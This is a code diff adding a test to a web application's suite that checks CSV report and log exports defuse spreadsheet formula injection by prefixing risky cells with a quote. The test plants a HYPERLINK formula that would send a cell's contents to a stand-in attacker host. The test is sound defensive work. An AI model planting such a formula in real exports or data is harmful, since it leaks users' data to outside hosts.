@@ -167,3 +167,21 @@ def test_metrics_need_the_token_and_speak_prometheus(demo, capture, settings):
     assert "nightshift_queue_depth " in text
     assert 'nightshift_oldest_waiting_seconds{work="event"} 0.0' in text
     assert 'nightshift_step_duration_seconds_bucket{le="0.005",step="qualify"}' in text
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for your quote")'
+
+
+def test_every_csv_export_writes_a_formula_as_text(week):
+    """OWASP's CSV injection: a cell a spreadsheet would run is written with a leading quote; numbers stay numbers."""
+    from tests.audit.conftest import make_lead
+
+    make_lead("L9", at(2, 12), channel="form", source=HOSTILE, answered_after=60, stages=("new", "contacted"))
+    client = portal("manager")
+    rows = csv_rows(client.get(f"/portal/reports/speed/?{WEEK_QUERY}&format=csv"))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + HOSTILE in cells and HOSTILE not in cells
+    assert "120.0" in cells, "numbers are not quoted"
+    Decision.objects.create(step="notify", reasoning=HOSTILE, input_summary="+1 512 867 0300")
+    log = csv_rows(client.get("/portal/log/?step=notify&format=csv"))
+    assert log[1][11] == "'" + HOSTILE and log[1][12] == "'+1 512 867 0300"
